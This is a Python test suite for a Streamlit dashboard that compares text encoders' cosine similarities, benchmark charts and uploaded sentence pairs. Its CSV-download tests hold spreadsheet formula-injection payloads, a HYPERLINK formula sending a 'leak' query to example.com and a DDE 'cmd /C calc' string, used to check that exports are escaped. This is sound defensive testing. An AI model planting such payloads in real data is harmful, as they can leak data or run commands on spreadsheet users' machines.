"""The Streamlit dashboard: every section renders, and bad input becomes a message, not a traceback.

Most tests drive ``dashboard/app.py`` in-process with Streamlit's ``AppTest``; the last one
starts the real server on a loopback port and drives it in headless Chromium with Playwright.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from servers import CHROMIUM, CHROMIUM_ARGS, free_loopback_port, stop, wait_until_answering
from t2i_core.pipelines.encoder_comparison import pairs_table_csv, spreadsheet_text

ROOT = Path(__file__).resolve().parents[1]
APP = ROOT / "dashboard" / "app.py"


@pytest.fixture(scope="module")
def encoder_names() -> list[str]:
    import t2i_core

    return t2i_core.load_pipeline("encoder-comparison").encoder_names


@pytest.fixture
def app(monkeypatch, tmp_path) -> AppTest:
    """The dashboard after its first run, reading benchmark results from a file that does not exist."""
    monkeypatch.setenv("T2I_ENCODER_RESULTS", str(tmp_path / "no-results.json"))
    at = AppTest.from_file(str(APP), default_timeout=120)
    at.run()
    assert not at.exception, at.exception
    return at


def metrics(at: AppTest) -> dict[str, str]:
    """Encoder name -> the value its metric shows."""
    return {m.label.rsplit("·", 1)[-1].strip(): m.value for m in at.metric}


def charts(at: AppTest) -> dict[str, dict]:
    """Plotly chart key -> its figure as JSON."""
    found = {}
    for chart in at.get("plotly_chart"):
        key = chart.proto.id.split("-", 2)[-1]  # "$$ID-<hash>-<key>"
        found[key] = json.loads(chart.proto.spec)
    return found


def messages(at: AppTest) -> list[str]:
    return [e.value for e in at.error] + [w.value for w in at.warning]


# ---------------------------------------------------------------- two sentences


def test_default_page_shows_a_cosine_per_encoder_glove_one_and_use_below_one(app, encoder_names):
    shown = metrics(app)
    assert sorted(shown) == sorted(encoder_names)
    assert shown["glove-avg"] == "1.000"
    assert float(shown["use"]) < 1.0
    assert any("identical" in s.value for s in app.success)
    assert not app.error


def test_changing_a_sentence_updates_the_metrics(app):
    before = metrics(app)
    app.text_input(key="sentence_b").set_value("a dog runs across the park").run()
    after = metrics(app)
    assert not app.exception
    assert after["glove-avg"] != "1.000"
    assert after["use"] != before["use"]
    assert not any("identical" in s.value for s in app.success)


def test_unknown_words_are_named(app):
    app.text_input(key="sentence_a").set_value("red rose with yellow stem qwzxv").run()
    assert not app.exception
    assert any("qwzxv" in w.value for w in app.warning)


@pytest.mark.parametrize(
    "sentence, expected",
    [("", "empty"), ("w" * 10_000, "10,000 characters"), ("🌹🌹🌹", "no letters or digits")],
    ids=["empty", "ten-thousand-characters", "emoji-only"],
)
def test_bad_sentences_give_a_message_not_an_exception(app, sentence, expected):
    app.text_input(key="sentence_a").set_value(sentence).run()
    assert not app.exception
    assert any(expected in m for m in messages(app)), messages(app)
    # The other sections still render.
    assert "similarity_use" in charts(app)


# ---------------------------------------------------------------- a list of sentences


def test_glove_heatmap_shows_both_sentences_and_the_two_averages(app):
    figure = charts(app)["glove_heatmap"]
    rows = [label for trace in figure["data"] for label in trace["y"]]
    assert rows[:5] == ["1. red", "2. rose", "3. with", "4. yellow", "5. stem"]
    assert rows[-2:] == ["average of A", "average of B"]
    assert all(len(row) == 50 for trace in figure["data"] for row in trace["z"])


def test_each_encoder_gets_a_similarity_heatmap_and_a_map_joining_swapped_pairs(app, encoder_names):
    found = charts(app)
    sentences = app.text_area(key="sentences").value.splitlines()
    assert len(sentences) == 12  # six flower captions, each followed by its swap
    for name in encoder_names:
        heatmap = found[f"similarity_{name}"]["data"][0]
        assert heatmap["type"] == "heatmap" and len(heatmap["y"]) == len(sentences)
        projection = found[f"projection_{name}"]["data"]
        assert sum(trace.get("mode") == "lines" for trace in projection) == 6


def test_presets_fill_the_sentence_list(app):
    app.selectbox(key="preset").set_value("roles").run()
    assert not app.exception
    assert "the dog chases the cat" in app.text_area(key="sentences").value
    found = charts(app)
    # dog/cat, man/dog and girl/horse swaps are joined; the passive paraphrases are not.
    assert sum(trace.get("mode") == "lines" for trace in found["projection_use"]["data"]) == 3


@pytest.mark.parametrize(
    "text, expected",
    [("just one sentence", "at least two"), ("a fine sentence\n" + "x" * 10_000, "10,000 characters")],
    ids=["one-line", "ten-thousand-characters"],
)
def test_a_bad_sentence_list_gives_a_message(app, text, expected):
    app.text_area(key="sentences").set_value(text).run()
    assert not app.exception
    assert any(expected in m for m in messages(app)), messages(app)
    assert "glove_heatmap" in charts(app)


# ---------------------------------------------------------------- benchmark results


def test_missing_benchmark_results_say_how_to_make_them(app):
    assert any("No benchmark results yet" in i.value for i in app.info)
    assert any("eval encoders" in c.value for c in app.code)


BENCHMARK = {
    "encoders": {
        "use": {
            "triplets": {
                "encoder": "use", "n": 4, "mean_cosine_swap": 0.8, "mean_cosine_paraphrase": 0.9, "accuracy": 0.75,
                "by_kind": {
                    "attribute": {"n": 2, "mean_cosine_swap": 0.9, "mean_cosine_paraphrase": 0.85, "accuracy": 0.5},
                    "role": {"n": 2, "mean_cosine_swap": 0.7, "mean_cosine_paraphrase": 0.95, "accuracy": 1.0},
                },
                "wrong": [{"kind": "attribute", "anchor": "a red rose with a yellow stem", "paraphrase": "a rose with red petals and a yellow stem",
                           "swap": "a yellow rose with a red stem", "cosine_paraphrase": 0.8, "cosine_swap": 0.9}],
            },
            "probe": {"heldout_templates_both_right": 0.7, "heldout_pairs_both_right": 0.6, "test_both_right": 0.8,
                      "chance_both_right": 0.02, "train_captions": 924},
            "sts": None,
        },
        "glove-avg": {
            "triplets": {"encoder": "glove-avg", "n": 4, "mean_cosine_swap": 1.0, "mean_cosine_paraphrase": 0.9, "accuracy": 0.0,
                         "by_kind": {"role": {"n": 2, "mean_cosine_swap": 1.0, "accuracy": 0.0}}, "wrong": []},
            "probe": None,
            "sts": None,
        },
        "half-written": {},
    },
    "config": {"seed": 0},
}


def test_benchmark_results_become_bar_charts_and_a_table_of_wrong_triplets(monkeypatch, tmp_path):
    results = tmp_path / "encoders.json"
    results.write_text(json.dumps(BENCHMARK), encoding="utf-8")
    monkeypatch.setenv("T2I_ENCODER_RESULTS", str(results))
    at = AppTest.from_file(str(APP), default_timeout=120).run()
    assert not at.exception
    found = charts(at)
    assert {"bench_cosine_use", "bench_cosine_glove-avg", "bench_accuracy", "bench_probe"} <= set(found)
    # Accuracies only, no counts; chance is a line, not a bar.
    probe_measures = [x for trace in found["bench_probe"]["data"] for x in trace["x"]]
    assert probe_measures == ["test captions", "held-out templates", "held-out colour pairs"]
    assert found["bench_probe"]["layout"]["shapes"][0]["y0"] == 0.02
    tables = [d.value for d in at.dataframe]
    assert any("anchor" in t.columns and "a red rose with a yellow stem" in set(t["anchor"]) for t in tables)


def test_the_shipped_benchmark_results_render(monkeypatch):
    from t2i_core.pipelines.encoder_comparison import RESULTS_FILE

    if not RESULTS_FILE.is_file():
        pytest.skip(f"no shipped results at {RESULTS_FILE}")
    monkeypatch.delenv("T2I_ENCODER_RESULTS", raising=False)
    at = AppTest.from_file(str(APP), default_timeout=120).run()
    assert not at.exception
    assert not at.error
    assert "bench_accuracy" in charts(at)


def test_an_unreadable_benchmark_file_is_an_error_message(monkeypatch, tmp_path):
    results = tmp_path / "encoders.json"
    results.write_text("{not json", encoding="utf-8")
    monkeypatch.setenv("T2I_ENCODER_RESULTS", str(results))
    at = AppTest.from_file(str(APP), default_timeout=120).run()
    assert not at.exception
    assert any("could not be read" in e.value for e in at.error)


# ---------------------------------------------------------------- upload


def test_uploaded_pairs_get_a_cosine_per_encoder_and_a_download(app, encoder_names):
    table = b"sentence1\tsentence2\nthe dog chases the cat\tthe cat chases the dog\nred rose with yellow stem\tyellow rose with red stem\n"
    app.file_uploader(key="pairs_file").set_value(("pairs.tsv", table, "text/tab-separated-values")).run()
    assert not app.exception and not app.error
    frame = app.dataframe[-1].value
    assert list(frame.columns) == ["sentence1", "sentence2", *encoder_names]
    assert frame["glove-avg"].tolist() == pytest.approx([1.0, 1.0])
    assert [b.key for b in app.get("download_button")] == ["pairs_download"]


FORMULA_PAIRS = [
    ('=HYPERLINK("http://example.com/?leak","click me")', "the cat chases the dog"),
    ("-2+3 is a sum", "@SUM(A1:A9) in a cell"),
    ("red rose with yellow stem", "+ a yellow rose with a red stem"),
]


def test_the_downloaded_csv_keeps_formulas_as_text_and_cosines_as_numbers(app, encoder_names, monkeypatch):
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    downloads, store = {}, MemoryMediaFileStorage.load_and_get_id

    def keeping_what_is_served(self, data, mimetype, kind, filename=None):
        file_id = store(self, data, mimetype, kind, filename)
        downloads[self.get_url(file_id)] = self.get_file(file_id).content
        return file_id

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keeping_what_is_served)
    table = "sentence1\tsentence2\n" + "".join(f"{a}\t{b}\n" for a, b in FORMULA_PAIRS)
    app.file_uploader(key="pairs_file").set_value(("pairs.tsv", table.encode("utf-8"), "text/tab-separated-values")).run()
    assert not app.exception and not app.error
    shown = app.dataframe[-1].value
    assert list(shown["sentence1"]) == [a for a, _ in FORMULA_PAIRS]  # the page shows the sentences as typed
    (button,) = app.get("download_button")
    text = downloads[button.proto.url].decode("utf-8")
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""http://example.com/?leak"",""click me"")"')  # quoted text, not a formula

    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["sentence1"], r["sentence2"]) for r in rows] == [
        ("\'" + FORMULA_PAIRS[0][0], FORMULA_PAIRS[0][1]),
        ("\'" + FORMULA_PAIRS[1][0], "\'" + FORMULA_PAIRS[1][1]),
        (FORMULA_PAIRS[2][0], "\'" + FORMULA_PAIRS[2][1]),
    ]
    frame = pd.read_csv(io.StringIO(text))
    for name in encoder_names:  # the cosines come back as the same numbers
        assert frame[name].dtype == np.float64 and frame[name].tolist() == shown[name].tolist()


def test_only_text_cells_that_start_a_formula_are_escaped():
    for cell in ("=1+1", "+1", "-1", "@A1", "\tcmd", "\rcmd", "-0.5"):
        assert spreadsheet_text(cell) == "\'" + cell
    for cell in ("a = b", "rose", "", -0.5, 0.25, 3, None):
        assert spreadsheet_text(cell) == cell
    rows = [{"sentence1": "=cmd|' /C calc'!A0", "sentence2": "a - b", "use": -0.5, "glove-avg": 1.0}]
    assert pairs_table_csv(rows).decode("utf-8") == "sentence1,sentence2,use,glove-avg\n\'=cmd|\' /C calc\'!A0,a - b,-0.5,1.0\n"


@pytest.mark.parametrize(
    "content, expected",
    [(b"just one column\n", "row 1 has 1 column"), (b"\xff\xfe\x00\x81", "not UTF-8"), (b"sentence1,sentence2\n", "no sentence pairs"), (b"a,\n", "empty")],
    ids=["one-column", "not-utf8", "header-only", "empty-cell"],
)
def test_a_malformed_upload_gives_an_error_message(app, content, expected):
    app.file_uploader(key="pairs_file").set_value(("bad.csv", content, "text/csv")).run()
    assert not app.exception
    assert any(expected in e.value for e in app.error), [e.value for e in app.error]
    assert not app.get("download_button")


# ---------------------------------------------------------------- the shipped Streamlit settings


def test_the_shipped_streamlit_config_turns_usage_statistics_off_and_streamlit_reads_every_option(tmp_path):
    tomllib = pytest.importorskip("tomllib")  # Python 3.11+
    config_file = ROOT / ".streamlit" / "config.toml"
    written = {f"{section}.{name}": value for section, table in tomllib.loads(config_file.read_text(encoding="utf-8")).items()
               for name, value in table.items()}
    assert written["browser.gatherUsageStats"] is False
    # Streamlit reads .streamlit/config.toml from the folder it starts in: a fresh process there, with an empty
    # home (no ~/.streamlit) and no STREAMLIT_* variables. get_option raises for an option this Streamlit lacks.
    script = ("import json, sys; import streamlit.config as config; config.get_config_options(force_reparse=True); "
              "print(json.dumps({k: [config.get_option(k), config.get_where_defined(k)] for k in json.loads(sys.argv[1])}))")
    env = {k: v for k, v in os.environ.items() if not k.startswith("STREAMLIT_")} | {"HOME": str(tmp_path)}
    result = subprocess.run([sys.executable, "-c", script, json.dumps(list(written))], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "not a valid config option" not in result.stderr
    assert json.loads(result.stdout) == {name: [value, str(config_file)] for name, value in written.items()}


# ---------------------------------------------------------------- the real server in a browser


def test_the_real_server_renders_and_reacts_in_a_browser(tmp_path):
    if not CHROMIUM.exists():
        pytest.skip(f"{CHROMIUM} is not installed (apt-get install chromium)")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.skip("playwright is not installed (pip install -r requirements-dev.txt)")

    port = free_loopback_port()
    log = (tmp_path / "server.log").open("wb")
    server = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", "dashboard/app.py", "--server.headless", "true",
         "--server.address", "127.0.0.1", "--server.port", str(port), "--browser.gatherUsageStats", "false"],
        cwd=ROOT, stdout=log, stderr=subprocess.STDOUT, env={**os.environ, "T2I_ENCODER_RESULTS": str(tmp_path / "none.json")},
    )
    try:
        wait_until_answering(f"http://127.0.0.1:{port}/_stcore/health", server)
        with sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=str(CHROMIUM),
                args=CHROMIUM_ARGS,
            )
            try:
                page = browser.new_page(viewport={"width": 1400, "height": 2400})
                page.goto(f"http://127.0.0.1:{port}/", timeout=60_000)
                page.get_by_text("Does the encoder read word order?").first.wait_for(timeout=60_000)
                values = page.locator('[data-testid="stMetricValue"]')
                values.nth(1).wait_for(timeout=60_000)
                assert values.count() == 2
                glove = page.locator('[data-testid="stMetric"]', has_text="glove-avg").locator('[data-testid="stMetricValue"]')
                assert glove.inner_text().strip() == "1.000"

                sentence_b = page.get_by_label("Sentence B")
                sentence_b.fill("a dog runs across the park")
                sentence_b.press("Enter")
                page.wait_for_function(
                    """() => [...document.querySelectorAll('[data-testid="stMetric"]')]
                        .some(m => m.innerText.includes('glove-avg') && !m.innerText.includes('1.000'))""",
                    timeout=30_000,
                )
                page.locator('[data-testid="stPlotlyChart"]').first.wait_for(timeout=30_000)
                page.wait_for_timeout(1500)  # let plotly draw before the picture
                assert page.locator('[data-testid="stException"]').count() == 0

                screenshot = tmp_path / "dashboard.png"
                page.screenshot(path=str(screenshot), full_page=True)
            finally:
                browser.close()
        picture = screenshot.read_bytes()
        assert picture[:8] == b"\x89PNG\r\n\x1a\n" and len(picture) > 20_000
    finally:
        stop(server)
        log.close()
    assert "Traceback" not in (tmp_path / "server.log").read_text(errors="replace")
